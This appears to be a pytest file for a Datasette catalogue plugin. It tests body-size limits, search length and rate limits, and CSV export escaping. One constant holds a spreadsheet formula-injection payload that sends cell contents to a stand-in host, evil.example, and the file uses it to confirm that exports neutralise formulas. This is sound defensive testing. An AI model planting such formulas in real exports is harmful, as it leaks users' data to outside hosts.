"""What a request may cost before Datasette runs it: request bodies limited before they are read, search text
limited in length and terms, searches limited per client address and in all, and Datasette's own CSV downloads
formula-safe. Catalogue: bundled sample + hand-written records (see _publish_support)."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from _publish_support import CHINESE_QMS, FOREIGN_QMS, Site, actor_cookie, build_catalog

from standards_lib.catalog import Catalog
from standards_lib.publish.plugin import sql_match
from standards_lib.publish.plugin.gates import MAX_BODY_BYTES, MAX_LOGIN_BODY_BYTES, MAX_SEARCH_CHARS
from standards_lib.publish.throttle import LoginThrottle

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def site(tmp_path: Path):
    s = Site(build_catalog(tmp_path / "catalog.db"))
    yield s
    s.close()


class Chunks:
    """A request body streamed without Content-Length, counting what the server pulled."""

    def __init__(self, total: int, chunk: int = 64 * 1024) -> None:
        self.total, self.chunk, self.sent = total, chunk, 0

    async def __aiter__(self):
        while self.sent < self.total:
            self.sent += self.chunk
            yield b"a" * self.chunk


def test_a_sign_in_body_over_the_limit_is_refused_before_it_is_read_and_counted(site: Site) -> None:
    from _publish_support import MEMBERS

    from standards_lib.publish.plugin import register_site

    register_site(site.ds, MEMBERS, throttle=LoginThrottle(per_user=5, per_client=3, window_seconds=60))
    declared = site.post("/-/login", content=b"username=a&password=" + b"x" * (MAX_LOGIN_BODY_BYTES + 1))
    assert declared.status_code == 413 and "larger than" in declared.text
    body = Chunks(50 * 1024 * 1024)
    started = time.perf_counter()
    streamed = site.post("/-/login", content=body, headers={"content-type": "application/x-www-form-urlencoded"})
    assert streamed.status_code == 413 and time.perf_counter() - started < 5
    assert body.sent <= MAX_LOGIN_BODY_BYTES + 2 * body.chunk, f"{body.sent:,} bytes read of a refused body"
    site.post("/-/login", content=b"x" * (MAX_LOGIN_BODY_BYTES + 1))
    assert site.get("/-/login").status_code == 429  # the three oversized posts counted as attempts


def test_every_post_route_has_a_body_limit(site: Site) -> None:
    _, cookies = site.form_token("/-/review", actor_cookie(site.ds))  # with a CSRF cookie the body is read
    for path in ("/-/review/decide", "/-/standard/" + quote(CHINESE_QMS, safe="") + "/review", "/-/logout"):
        body = Chunks(20 * 1024 * 1024)
        response = site.post(
            path, content=body, cookies=cookies, headers={"content-type": "application/x-www-form-urlencoded"}
        )
        assert response.status_code == 413, path
        assert body.sent <= MAX_BODY_BYTES + 2 * body.chunk, path
    token, cookies = site.form_token("/-/review", cookies)
    ok = site.post(
        "/-/review/decide",
        data={"csrftoken": token, "foreign_id": FOREIGN_QMS, "chinese_id": CHINESE_QMS, "action": "confirm"},
        cookies=cookies,
    )
    assert ok.status_code == 302  # an ordinary form passes


def test_search_text_is_limited_in_length_and_terms(site: Site) -> None:
    flood = "a* " * 2000
    assert site.get("/catalog/search.json?country=&q=" + quote("质量管理 a")).status_code == 200
    for path in (
        "/catalog/search.json?country=&q=" + quote(flood),
        "/catalog/standards.json?_search=" + quote(flood),
        "/catalog/standards.json?_search_titles=" + quote(flood),
    ):
        response = site.get(path)
        assert response.status_code == 400 and f"at most {MAX_SEARCH_CHARS}" in response.text, path
    # three over-long searches in a minute: every search of that address is refused for a while, others served
    refused = site.get("/catalog/search.json?country=&q=" + quote("质量管理 a"))
    assert refused.status_code == 429 and "over-long" in refused.text and refused.headers["retry-after"] == "60"
    from standards_lib.publish.plugin.gates import SearchSlots

    slots = SearchSlots()
    for second in (0.0, 1.0, 2.0):
        assert not slots.cooling_down("10.0.0.9", second)
        slots.refused_too_long("10.0.0.9", second)
    assert slots.cooling_down("10.0.0.9", 3.0) and not slots.cooling_down("10.0.0.8", 3.0)
    assert not slots.cooling_down("10.0.0.9", 3.0 + 61.0)  # quiet for the cool-down: served again
    assert sql_match(flood) == sql_match("a")
    many = " ".join(f"w{i}" for i in range(40))
    assert sql_match(many).count(" AND ") == 7


def test_searches_of_one_address_beyond_the_limit_are_answered_429_at_once(site: Site) -> None:
    """With Datasette's SQL threads busy, two searches of an address wait for them; a third is refused at once."""
    db = site.ds.get_database("catalog")

    async def scenario():
        release = asyncio.Event()
        blocked = [asyncio.ensure_future(db.execute_fn(lambda conn: time.sleep(2.0))) for _ in range(3)]
        await asyncio.sleep(0.1)
        searches = [
            asyncio.ensure_future(site.ds.client.get("/catalog/standards.json?_search=" + quote(word)))
            for word in ("quality", "battery")
        ]
        await asyncio.sleep(0.1)
        started = time.perf_counter()
        third = await site.ds.client.get("/catalog/standards.json?_search=wind")
        refused_after = time.perf_counter() - started
        release.set()
        first_two = await asyncio.gather(*searches)
        await asyncio.gather(*blocked)
        return third, refused_after, first_two

    third, refused_after, first_two = site.loop.run_until_complete(scenario())
    # refused after the refusal delay spent waiting (1 s), before the two searches that wait for a thread
    assert third.status_code == 429 and "Too many searches" in third.text and 0.9 < refused_after < 1.5
    assert [r.status_code for r in first_two] == [200, 200]
    assert site.get("/catalog/standards.json?_search=wind").status_code == 200  # slots given back


def test_datasette_csv_downloads_are_formula_safe(site: Site) -> None:
    with Catalog(site.path) as catalog:
        catalog.record_review(FOREIGN_QMS, CHINESE_QMS, "confirmed", "member", note=FORMULA)
    for path in ("/catalog/reviews.csv", "/catalog/reviews.csv?_dl=1&_stream=on", "/catalog/reviews.csv?_size=max"):
        response = site.get(path)
        assert response.status_code == 200, path
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert [r["note"] for r in rows] == ["'" + FORMULA], path
    member = site.get("/catalog.csv?sql=" + quote("select note, -1 as n from reviews"), cookies=actor_cookie(site.ds))
    assert list(csv.reader(io.StringIO(member.text)))[1] == ["'" + FORMULA, "-1"]
